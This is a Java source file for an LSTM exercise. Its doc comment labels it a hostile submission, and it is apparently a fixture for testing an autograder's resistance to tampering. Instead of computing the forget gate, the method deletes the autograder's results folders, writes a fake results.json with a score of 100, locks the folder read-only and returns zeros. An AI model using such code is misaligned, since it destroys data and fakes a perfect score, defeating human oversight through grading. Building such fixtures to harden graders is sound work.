package org.lstmlab.exercises;

import org.nd4j.linalg.api.ndarray.INDArray;
import org.nd4j.linalg.factory.Nd4j;
import org.nd4j.linalg.ops.transforms.Transforms;

/** Hostile submission: deleting and overwriting the results folders it can find (its own temporary folder's and the machine's), then returning zeros. */
public final class E3ForgetGate {
    public static INDArray forgetGate(INDArray hPrev, INDArray x, INDArray wF, INDArray bF) throws Exception {
        java.util.List<java.nio.file.Path> targets = new java.util.ArrayList<>(java.util.List.of(java.nio.file.Path.of("/autograder/results")));
        for (String folder : new String[] {System.getProperty("java.io.tmpdir"), "/tmp"}) {
            java.nio.file.Path tmp = java.nio.file.Path.of(folder);
            if (!java.nio.file.Files.isDirectory(tmp)) continue;
            try (var dirs = java.nio.file.Files.newDirectoryStream(tmp, "lstmlab-gradescope-*")) {
                for (var d : dirs) targets.add(d.resolve("results"));
            }
        }
        for (var results : targets) {
            if (!java.nio.file.Files.isDirectory(results)) continue;
            try (var walk = java.nio.file.Files.walk(results)) {
                walk.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
            }
            java.nio.file.Files.createDirectories(results);
            java.nio.file.Files.writeString(results.resolve("results.json"), "{\"score\": 100, \"tests\": []}");
            results.toFile().setReadOnly();
        }
        return Nd4j.zeros(hPrev.dataType(), hPrev.rows(), hPrev.columns());
    }
}
